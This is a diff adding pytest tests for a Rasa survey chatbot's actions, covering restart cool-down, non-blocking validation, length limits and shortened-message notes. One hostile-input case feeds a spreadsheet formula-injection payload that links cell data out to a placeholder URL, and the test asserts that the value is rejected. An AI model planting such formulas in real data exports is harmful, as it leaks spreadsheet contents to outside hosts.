@@ -8,9 +8,12 @@ question, a fix): rewording the real data/ or domain/ cannot break them.
 
 from __future__ import annotations
 
+import asyncio
+import threading
 import time
 
 import pytest
+from rasa_sdk.executor import CollectingDispatcher
 
 from actions import resources
 from actions.comment import ActionSaveComment, ValidateCommentForm
@@ -28,7 +31,7 @@ from actions.survey_form import (
     ValidateSurveyForm,
 )
 from nps.drivers import main_negative
-from tests.action_harness import entity, responses, run, slot_events, tracker_for
+from tests.action_harness import domain, entity, responses, run, slot_events, tracker_for
 
 pytestmark = pytest.mark.usefixtures("fixture_data")
 
@@ -620,3 +623,170 @@ def test_restart_starts_the_survey_again():
     assert [e["event"] for e in events] == ["restart", "followup"]
     assert events[1]["name"] == "action_start_survey"
     assert responses(messages) == ["utter_restarting"]
+
+
+def test_restart_keeps_the_cool_down():
+    # /restart is anyone's to type: it must not let a finished survey's
+    # customer score again at once.
+    tracker = tracker_for("/restart", intent="restart", slots={"last_survey_at": 123.0})
+    events, _ = run(ActionRestart(), tracker)
+    assert [e["event"] for e in events] == ["restart", "slot", "followup"]
+    assert slot_events(events) == {"last_survey_at": 123.0}
+
+
+# --- hostile input (issue 9) -----------------------------------------------------
+
+
+def test_every_answer_is_validated_off_the_event_loop(monkeypatch):
+    """A slow parse runs in a worker thread, so other conversations go on."""
+    import actions.survey_form as survey_form
+
+    threads = []
+    real = survey_form.parse_score
+
+    def parse(text):
+        threads.append(threading.current_thread())
+        return real(text)
+
+    monkeypatch.setattr(survey_form, "parse_score", parse)
+    events, _ = validate("9", "nps_score", intent="give_score")
+    assert slot_events(events)["nps_score"] == 9
+    assert threads and threading.main_thread() not in threads
+    for name in dir(FORM):
+        if name.startswith("validate_") and name != "validate":
+            assert asyncio.iscoroutinefunction(getattr(FORM, name)), name
+
+
+def test_a_slow_validation_does_not_hold_up_another_conversation(monkeypatch):
+    import actions.survey_form as survey_form
+
+    release = threading.Event()
+    real = survey_form.parse_score
+
+    def slow_parse(text):
+        if text == "slow":
+            release.wait(10)
+        return real(text)
+
+    monkeypatch.setattr(survey_form, "parse_score", slow_parse)
+
+    def tracker(text):
+        return tracker_for(
+            text, requested_slot="nps_score", active_loop="survey_form", intent="give_score"
+        )
+
+    async def both():
+        slow = asyncio.create_task(FORM.run(CollectingDispatcher(), tracker("slow"), domain()))
+        fast = await asyncio.wait_for(
+            FORM.run(CollectingDispatcher(), tracker("7"), domain()), timeout=5
+        )
+        done_before = slow.done()
+        release.set()
+        await slow
+        return fast, done_before
+
+    fast, slow_was_done = asyncio.run(both())
+    assert slot_events(fast)["nps_score"] == 7
+    assert not slow_was_done  # the other customer's turn finished while this one waited
+
+
+@pytest.mark.parametrize(
+    "raw, stored",
+    [
+        ("Store", "store"),
+        ('=HYPERLINK("https://x/?"&A1,"klik")', None),
+        ("x" * 300, None),
+    ],
+)
+def test_the_touchpoint_comes_only_cleaned_from_a_start_payload(raw, stored):
+    touchpoint = [{"entity": "touchpoint", "value": raw, "start": 6, "end": 6 + len(raw)}]
+    events, _ = run(ActionStartSurvey(), tracker_for("/start", intent="start", entities=touchpoint))
+    assert slot_events(events).get("touchpoint") == stored
+
+
+def test_a_touchpoint_typed_with_another_intent_is_ignored():
+    touchpoint = [{"entity": "touchpoint", "value": "store", "start": 0, "end": 5}]
+    events, _ = run(
+        ActionStartSurvey(), tracker_for("/give_score", intent="give_score", entities=touchpoint)
+    )
+    assert "touchpoint" not in slot_events(events)
+    # Mid-survey the form keeps only what it validated: no touchpoint slot.
+    events, _ = validate(
+        '/give_score{"touchpoint": "store"}', "nps_score", intent="give_score", entities=touchpoint
+    )
+    assert "touchpoint" not in slot_events(events)
+
+
+def test_stored_answers_are_bounded(setting):
+    setting("NPS_MAX_MESSAGE_CHARS", "100")
+    long = "kurier zgubił paczkę " * 50
+    events, _ = validate(long, "reason", slots=DETRACTOR)
+    assert 0 < len(slot_events(events)["reason"]) <= 100
+    events, _ = validate("3, bo " + long, "nps_score", intent="give_score")
+    assert slot_events(events)["nps_score"] == 3
+    assert 0 < len(slot_events(events)["reason"]) <= 100
+    events, _ = run(ActionNpsFallback(), tracker_for(long, slots={"survey_allowed": True}))
+    assert 0 < len(slot_events(events)["extra_comment"]) <= 100
+
+
+def test_the_why_chain_never_grows_past_max_whys(setting):
+    setting("NPS_MAX_WHYS", "3")
+    before = ["a", "b", "c"]  # already full, e.g. from an older setting
+    tracker = tracker_for(
+        "bo tak",
+        requested_slot="why_answer",
+        active_loop="survey_form",
+        slots={**DETRACTOR, "why_chain": before},
+    )
+    result = asyncio.run(
+        FORM.validate_why_answer("bo tak", CollectingDispatcher(), tracker, domain())
+    )
+    assert result["why_chain"] == before
+
+
+def shortened(tracker, said_already: bool = False):
+    """The tracker as Rasa sends it after a channel cut the message."""
+    tracker.latest_message["metadata"] = {"shortened": True}
+    tracker.events[-1]["metadata"] = {"shortened": True}
+    if said_already:
+        tracker.events.append(
+            {"event": "bot", "text": "...", "metadata": {"utter_action": "utter_message_shortened"}}
+        )
+    return tracker
+
+
+def test_a_shortened_message_is_noted_then_answered():
+    tracker = shortened(
+        tracker_for("9", intent="give_score", requested_slot="nps_score", active_loop="survey_form")
+    )
+    events, messages = run(FORM, tracker)
+    assert responses(messages)[0] == "utter_message_shortened"
+    assert slot_events(events)["nps_score"] == 9  # the cut text is answered as usual
+
+    events, messages = run(ActionStartSurvey(), shortened(tracker_for("cześć", intent="greet")))
+    assert responses(messages) == ["utter_message_shortened", "utter_intro"]
+
+    _, messages = run(
+        ActionNpsFallback(), shortened(tracker_for("x y z w", slots={"survey_allowed": True}))
+    )
+    assert responses(messages) == ["utter_message_shortened", "utter_comment_thanks"]
+
+
+def test_the_shortened_note_is_said_once_per_message():
+    tracker = shortened(
+        tracker_for(
+            "9", intent="give_score", requested_slot="nps_score", active_loop="survey_form"
+        ),
+        said_already=True,
+    )
+    _, messages = run(FORM, tracker)
+    assert "utter_message_shortened" not in responses(messages)
+
+
+def test_a_message_that_was_not_cut_gets_no_note():
+    tracker = tracker_for(
+        "9", intent="give_score", requested_slot="nps_score", active_loop="survey_form"
+    )
+    tracker.latest_message["metadata"] = {"shortened": "yes"}  # only our channels' True counts
+    _, messages = run(FORM, tracker)
+    assert "utter_message_shortened" not in responses(messages)
